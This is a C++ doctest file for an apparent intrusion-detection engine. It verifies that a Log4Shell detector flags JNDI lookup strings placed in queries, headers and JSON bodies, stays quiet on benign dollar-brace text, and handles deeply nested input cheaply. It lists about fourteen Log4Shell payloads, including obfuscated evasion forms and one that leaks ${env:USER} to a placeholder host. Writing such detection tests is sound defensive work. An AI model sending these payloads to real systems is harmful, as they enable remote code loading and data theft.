#include <doctest/doctest.h>

#include "threats/hearing.h"

namespace vmoat {

TEST_CASE("log4shell: the plain lookup and what hides it, in fields, queries and bodies") {
  for (const char* attack : {
           "${jndi:ldap://198.51.100.1:1389/a}",
           "${jndi:rmi://198.51.100.1/a}",
           "${jndi:dns://a.example/${env:USER}}",
           "${JnDi:LdAp://a.example/x}",
           "${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://a.example/x}",
           "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://a.example/x}",
           "${${upper:j}${upper:n}${upper:d}${upper:i}:ldap://a.example}",
           "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//a.example/x}",
           "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://a.example/x}",
           "${jnd${upper:\xc4\xb1}:ldap://a.example/x}",
           "${${lower:${lower:jn}}di:ldap://a.example/x}",
           "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://a.example/x}",
           "text before ${jndi:ldap://a.example/x and no end",
           "${${what:ever}jndi:ldap://a.example/x}",
       }) {
    check_raised("log4shell", "http", {{true, get_with(attack)}});
    CHECK_MESSAGE(alarms("log4shell", "http", {{true, post_with(attack)}}) > 0, attack);
    const std::string field = std::string("GET / HTTP/1.1\r\nUser-Agent: ") + attack + "\r\n\r\n";
    check_raised("log4shell", "http", {{true, field}});
    const std::string json = std::string("{\"name\":\"") + attack + "\"}";
    CHECK_MESSAGE(alarms("log4shell", "http",
                         {{true, "POST / HTTP/1.1\r\nContent-Type: application/json\r\nContent-Length: " +
                                     std::to_string(json.size()) + "\r\n\r\n" + json}}) > 0,
                  attack);
  }
}

TEST_CASE("log4shell: other lookups and words about it are silent") {
  for (const char* innocent :
       {"${HOME}/bin", "price: $5 {or less}", "what is jndi:ldap://", "${jndi}", "${project.version}",
        "${{ matrix.os }}", "`${a}:${b}`", "${env:PATH:-/bin}", "$(jndi)", "${java:version} is jndi",
        "%{HOST} ${x", "ldap://a.example/x", "${${a}${b}${c}}", "}}}}${{{{"}) {
    check_silent("http", {{true, get_with(innocent)}});
    check_silent("http", {{true, std::string("GET / HTTP/1.1\r\nX-Note: ") + innocent + "\r\n\r\n"}});
  }
}

TEST_CASE("log4shell: lookups nested without end cost no more than their length") {
  std::string deep;
  for (int i = 0; i < 20000; i++) deep += "${lower:";
  CHECK(alarms("log4shell", "http", {{true, post_with(deep)}}) == 0);
}

}  // namespace vmoat
